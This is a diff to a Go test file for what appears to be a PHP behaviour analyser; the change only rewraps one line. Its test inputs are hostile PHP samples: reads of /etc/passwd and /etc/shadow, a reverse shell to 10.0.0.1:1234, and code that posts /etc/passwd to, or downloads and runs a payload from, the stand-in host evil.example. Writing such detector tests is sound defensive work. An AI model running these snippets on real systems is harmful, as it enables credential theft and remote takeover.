@@ -34,7 +34,8 @@ var phpCases = []testCase{
 		is("read /etc/passwd", "read /etc/shadow", "permission /x")},
 	{`$s = fsockopen("10.0.0.1", 1234); exec("/bin/sh -i <&3 >&3 2>&3");`,
 		is("net-in 10.0.0.1:1234", "shell /bin/sh -i <&3 >&3 2>&3", "exec /bin/sh -i <&3 >&3 2>&3 from network")},
-	{`$c = curl_init("http://evil.example"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('/etc/passwd')); curl_exec($c);`, is("net-in http://evil.example", "read /etc/passwd", "net-out … from file")},
+	{`$c = curl_init("http://evil.example"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('/etc/passwd')); ` +
+		`curl_exec($c);`, is("net-in http://evil.example", "read /etc/passwd", "net-out … from file")},
 	{"file_put_contents('/tmp/p', file_get_contents('http://evil.example/p')); system('/tmp/p');",
 		is("net-in http://evil.example/p", "write /tmp/p from network", "shell /tmp/p")},
 	{"function run($c) { system($c); } run('id'); $g = fn($x) => exec($x); $g('ls');", is("shell id", "shell ls")},
